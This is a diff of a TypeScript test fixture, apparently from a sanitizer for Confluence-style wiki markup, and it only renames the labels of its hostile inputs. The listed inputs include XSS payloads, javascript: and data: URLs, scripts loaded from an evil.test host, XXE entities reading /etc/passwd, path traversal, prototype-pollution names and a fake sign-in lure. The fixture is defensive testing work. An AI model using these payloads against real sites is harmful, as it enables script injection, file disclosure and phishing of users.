@@ -14,12 +14,12 @@ const onError = `<img src="x" onerror="${call}" />`;
 /** What each tries to do, and the body. */
 export const hostileBodies: readonly (readonly [about: string, body: string])[] = [
   ['a script', script],
-  ['a script in capitals, cut in two', `<SCR<script></script>IPT>${call}</SCRIPT>`],
+  ['a split script in capitals', `<SCR<script></script>IPT>${call}</SCRIPT>`],
   [
-    'a script from elsewhere',
+    'an external script',
     `<script src="${evil}/x.js"></script><script type="module" src="${evil}/y.js"></script>`,
   ],
-  ['a script whose end is odd', `<script>${call}</script/x><p>after</p>`],
+  ['a script with an odd end tag', `<script>${call}</script/x><p>after</p>`],
   [
     'handlers',
     `<p onclick="${call}" onmouseover="${call}" onfocus="${call}" autofocus="" tabindex="1">x</p>`,
@@ -66,8 +66,8 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     `<!--><script>${call}</script>--><!-- --!><img src=x onerror=${call}> --><![if IE]><script>${call}</script><![endif]>`,
   ],
   ['CDATA in HTML', `<p><![CDATA[<script>${call}</script>]]></p><![CDATA[<img src=x onerror=${call}>]]>`],
-  ['CDATA cut in two', `${macro('code', plain(`]]]]><![CDATA[><script>${call}</script>`))}`],
-  ['CDATA that does not end', `<p>before</p><![CDATA[<script>${call}</script>`],
+  ['split CDATA', `${macro('code', plain(`]]]]><![CDATA[><script>${call}</script>`))}`],
+  ['unterminated CDATA', `<p>before</p><![CDATA[<script>${call}</script>`],
   [
     'code that is markup',
     macro(
@@ -82,17 +82,17 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     `<?xml version="1.0"?><?xml-stylesheet href="${evil}/x.xsl"?><?php echo 1 ?><p>x</p>`,
   ],
   [
-    'entities that grow',
+    'exponential entities',
     `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><p>&b;&c;</p>`,
   ],
-  ['an entity from elsewhere', `<!DOCTYPE x SYSTEM "${evil}/x.dtd"><p>x</p>`],
+  ['an external entity', `<!DOCTYPE x SYSTEM "${evil}/x.dtd"><p>x</p>`],
   ['nesting', '<div>'.repeat(60_000)],
   [
     'nesting of macros',
     macro('panel', rich(macro('expand', rich('x')))).repeat(3) +
       '<ac:structured-macro ac:name="panel"><ac:rich-text-body>'.repeat(5000),
   ],
-  ['end tags without beginnings', '</div></p></a></table></ac:link>'.repeat(5000)],
+  ['end tags without start tags', '</div></p></a></table></ac:link>'.repeat(5000)],
   ['a huge attribute', `<p title="${'x'.repeat(500_000)}" data-x="${'<'.repeat(10_000)}">x</p>`],
   ['many attributes', `<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}="${i}"`).join(' ')}>x</p>`],
   [
@@ -100,15 +100,15 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     `<scr\0ipt>${call}</scr\0ipt><img src=x one\0rror=${call}><a href="java\0script:${call}">x</a>`,
   ],
   ['javascript:', jsLink(`javascript:${call}`)],
-  ['javascript: in capitals and with blanks', jsLink(`  JaVaScRiPt:${call}`)],
+  ['javascript: in capitals and with spaces', jsLink(`  JaVaScRiPt:${call}`)],
   ['javascript: with a tab', jsLink(`java&#9;script:${call}`)],
-  ['javascript: with line ends', jsLink(`java&#10;scr&#13;ipt:${call}`)],
+  ['javascript: with line breaks', jsLink(`java&#10;scr&#13;ipt:${call}`)],
   [
     'javascript: as entities',
     jsLink('&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;SENTINEL()'),
   ],
   ['javascript: with &colon;', jsLink(`javascript&colon;${call}`)],
-  ['javascript: behind a control character', jsLink(`&#1;javascript:${call}`)],
+  ['javascript: after a control character', jsLink(`&#1;javascript:${call}`)],
   ['data: page', jsLink('data:text/html,<script>opener.SENTINEL()</script>')],
   ['data: in base64', jsLink('data:text/html;base64,PHNjcmlwdD5TRU5USU5FTCgpPC9zY3JpcHQ+')],
   [
@@ -121,9 +121,9 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     'an address without a scheme',
     `${jsLink('//evil.test/x')}<img src="//evil.test/x.png" />${jsLink('\\\\evil.test\\x')}`,
   ],
-  ['an address with a name before it', jsLink('https://wiki.example.org@evil.test/')],
+  ['an address with a user name', jsLink('https://wiki.example.org@evil.test/')],
   [
-    'a target that names the page',
+    'a target other than the frame',
     '<a href="https://example.org" target="_parent" rel="opener" ping="http://evil.test/ping">x</a>',
   ],
   [
@@ -134,15 +134,15 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     'picture and media',
     `<picture><source srcset="${evil}/a.webp" /><img src="${evil}/a.png" /></picture><video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay="">x</video><audio src="${evil}/a.mp3" autoplay=""></audio><track src="${evil}/t.vtt" />`,
   ],
-  ['an image of Confluence from elsewhere', `<ac:image><ri:url ri:value="${evil}/i.png" /></ac:image>`],
+  ['a Confluence image from another site', `<ac:image><ri:url ri:value="${evil}/i.png" /></ac:image>`],
   [
-    'an image of Confluence that is script',
+    'a Confluence image with a script address',
     `<ac:image><ri:url ri:value="javascript:${call}" /></ac:image><ac:image ac:alt="&quot; onerror=&quot;SENTINEL()" ac:width="1 onload=x"><ri:attachment ri:filename="picture.png" /></ac:image>`,
   ],
   ['an image that is an svg attachment', '<ac:image><ri:attachment ri:filename="evil.svg" /></ac:image>'],
-  ['an image whose kind lies', '<ac:image><ri:attachment ri:filename="lie.png" /></ac:image>'],
+  ['an image with a false content type', '<ac:image><ri:attachment ri:filename="lie.png" /></ac:image>'],
   [
-    'an attachment with a path for a name',
+    'an attachment with a path as its name',
     '<ac:image><ri:attachment ri:filename="../../../etc/passwd" /></ac:image><ac:link><ri:attachment ri:filename="..\\..\\x" /></ac:link>',
   ],
   [
@@ -179,7 +179,7 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     `<object data="${evil}/o" type="text/html"><param name="a" value="b" /></object><embed src="${evil}/e" /><applet code="${evil}/a"></applet>`,
   ],
   [
-    'objects that are script',
+    'objects with a script address',
     `<object data="javascript:${call}"></object><embed src="javascript:${call}" />`,
   ],
   [
@@ -200,19 +200,19 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     `<marquee onstart="${call}" loop="1">x</marquee><blink>y</blink><bgsound src="javascript:${call}" /><layer src="${evil}/l"></layer>`,
   ],
   [
-    'a body and an html',
+    'html and body elements',
     `<html manifest="${evil}/m"><head><script>${call}</script></head><body onload="${call}" background="${evil}/b.png">x</body></html>`,
   ],
   [
-    'tables that burst',
+    'broken tables',
     `<table background="${evil}/t.png"><script>${call}</script><tr><td background="${evil}/u.png" colspan="999999999" rowspan="-1" onclick="${call}">x<table><tr>${onError}</tr></table></td></tr>${onError}</table>`,
   ],
   [
-    'a hostile name of a macro',
+    'a hostile macro name',
     `<ac:structured-macro ac:name="&quot;&gt;&lt;script&gt;SENTINEL()&lt;/script&gt;">${plain(script)}</ac:structured-macro>`,
   ],
   [
-    'a macro named like a part of every object',
+    'a macro named like a built-in property',
     ['__proto__', 'constructor', 'toString', 'hasOwnProperty']
       .map((name) => macro(name, parameter('__proto__', 'x') + rich('x')))
       .join(''),
@@ -238,10 +238,10 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
           parameter('title', '&lt;/span&gt;&lt;script&gt;SENTINEL()&lt;/script&gt;'),
       ),
   ],
-  ['a title of a panel that is markup', macro('info', parameter('title', script) + rich(onError))],
+  ['a panel title that is markup', macro('info', parameter('title', script) + rich(onError))],
   ['an expand around everything', macro('expand', parameter('title', onError) + rich(script + onError))],
   [
-    'a link with hostile words',
+    'a link with hostile text',
     `<ac:link><ri:page ri:content-title="&quot;&gt;&lt;script&gt;SENTINEL()&lt;/script&gt;" /><ac:plain-text-link-body><![CDATA[<img src=x onerror=SENTINEL()>]]></ac:plain-text-link-body></ac:link><ac:link ac:anchor="&quot; onclick=&quot;SENTINEL()"><ac:link-body>${script}x</ac:link-body></ac:link>`,
   ],
   [
@@ -249,11 +249,11 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     '<a href="https://example.org/1">a <a href="https://example.org/2">b</a> <ac:link><ri:page ri:content-title="c" /></ac:link></a>',
   ],
   [
-    'a link to an address that is script',
+    'a link with a script address',
     '<ac:link><ri:url ri:value="javascript:SENTINEL()" /></ac:link><ac:link><ri:shortcut ri:key="x" ri:value="javascript:SENTINEL()" /></ac:link>',
   ],
   [
-    'ids that mean something',
+    'ids that shadow globals',
     '<p id="location" name="cookie"><a id="SENTINEL" name="body" href="#x">x</a></p><h2>location</h2><h2 id="x">document</h2>',
   ],
   [
@@ -273,7 +273,7 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     `<ac:adf-extension><ac:adf-node type="panel"><ac:adf-attribute key="panel-type">__proto__</ac:adf-attribute><ac:adf-content>${script}${onError}</ac:adf-content></ac:adf-node><ac:adf-fallback>${script}</ac:adf-fallback></ac:adf-extension>`,
   ],
   [
-    'namespaces in one another',
+    'nested namespaces',
     `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${call}</svg:script><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script><ac:svg><svg><ac:image><ri:url ri:value="${evil}/n.png"/></ac:image></svg></ac:svg>`,
   ],
   [
@@ -285,12 +285,12 @@ export const hostileBodies: readonly (readonly [about: string, body: string])[] 
     '+ADw-script+AD4-SENTINEL()+ADw-/script+AD4- ＜script＞SENTINEL()＜/script＞ \u2028<script\u2028>SENTINEL()</script\u2028>',
   ],
   [
-    'lone halves of characters',
+    'lone surrogates',
     '<p>\ud800 &#xD800; &#x110000; &#0; \ufffe</p><a href="https://example.org/\udc00">x</a>',
   ],
-  ['marks that turn the direction', '<p>\u202egnp.exe\u202c \u2066x\u2069 \u200b</p>'],
+  ['characters that change the text direction', '<p>\u202egnp.exe\u202c \u2066x\u2069 \u200b</p>'],
   [
-    'what looks like this program',
+    'markup that imitates this program',
     '<div class="notice bad"><h1>You are signed out</h1><p><a class="button primary" href="https://desk.test.evil.test/">Sign in</a></p></div>',
   ],
   [
